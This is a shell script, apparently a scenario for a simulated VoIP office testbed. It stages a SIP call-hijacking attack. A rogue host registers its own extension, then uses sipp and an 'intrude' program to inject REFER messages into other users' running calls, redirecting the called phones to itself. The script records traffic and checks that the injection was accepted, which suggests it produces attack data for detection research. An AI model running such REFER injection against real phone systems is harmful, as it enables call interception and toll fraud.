# A computer inside that has an extension of its own takes over calls: it sends the called phones
# REFERs in the callers' name, and they call that extension, which answers.
relocate example.net 5060 10.11.12 203.0.113
EXTENSIONS=(1401 1402 1403 1404 1405 1406)
EXISTING='^14[0-6][0-9]$'
WEAK=none
open_office
add_attacker third 10.11.12.150
echo "1460 hijack" >>"$scratch/users"
caller register-third third register -s 1460 -au 1460 -ap secret1460
wait_for register-third
start_office_capture
keep_alive 13
office_day 219 90 14-75
n=0
for pair in "1401 1403" "1404 1402" "1405 1406"; do
    read -r from to <<<"$pair"
    second=$((20 + 17 * n))
    at "$second" tell "$from" dial "sip:$to@$DOMAIN"
    at "$((second + 2))" tell "$to" accept
    at "$((second + 10))" tell "$from" hangup
    at "$((second + 12))" tell "$to" hangup
    at "$((second + 13))" tell "$to" hangup
    n=$((n + 1))
done
story="A third host sends REFERs into running calls: the called phones call its own extension, which answers."
at 18 attack A1-1 hijack:call_hijack third 5060 "$story" "$(version_of sipp)" \
    env TERM=dumb sipp -sf "$parts/sipp/callee.xml" -nostdin -m 3 -l 3 -key parameters "" -timeout 60s \
    -i 10.11.12.150 -mi 10.11.12.150 -p 5060 -s 1460
at 19 attack A1-2 hijack:call_hijack third 5075 "$story" \
    "a Python program of this directory" "$here/intrude" "$scratch/$recording.pcap" 10.11.12.1 REFER callee 10.11.12.150:5075 3 60 1460
within_calls_of_others A1
play
wait_for A1-1 A1-2
close_office
expect_said A1-2 'SIP/2.0 202' 'messages sent: 3'
